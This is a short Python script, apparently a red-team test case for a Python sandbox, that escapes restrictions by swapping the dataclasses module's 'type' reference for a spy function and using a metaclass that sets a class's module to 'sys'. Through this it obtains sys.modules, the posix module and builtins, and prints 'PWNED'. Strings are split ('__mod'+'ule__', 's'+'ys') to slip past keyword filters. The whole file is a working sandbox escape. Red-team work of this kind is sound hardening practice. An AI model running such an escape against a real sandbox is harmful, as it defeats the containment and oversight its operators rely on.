# adversary round 8: 015: documented-gap module write object.__setattr__(dataclasses, 'type', spy) + metaclass __new__ setting __module__='sys' (no copy trick, no type alias) -> dataclass processing calls type(sys.__dict__['modules']) -> spy gets sys.modules
import dataclasses

real_type = type
seen = []


def spy(*args):
    if len(args) == 1:
        seen.append(args[0])
        return real_type(args[0])
    return real_type(*args)


class Meta(type):
    def __new__(mcls, name, bases, ns):
        ns['__mod' + 'ule__'] = 's' + 'ys'
        return super().__new__(mcls, name, bases, ns)


class K(metaclass=Meta):
    """has a docstring so dataclasses does not call inspect.signature"""
    x: "modules"


object.__setattr__(dataclasses, 'type', spy)
dataclasses.dataclass(init=False, repr=False, eq=False, match_args=False)(K)
object.__setattr__(dataclasses, 'type', real_type)
mods = [s for s in seen if real_type(s) is dict and 'posix' in s]
posix = mods[0]['posix']
print(posix, posix.getpid(), mods[0]['builtins'])
print('PWN' + 'ED')
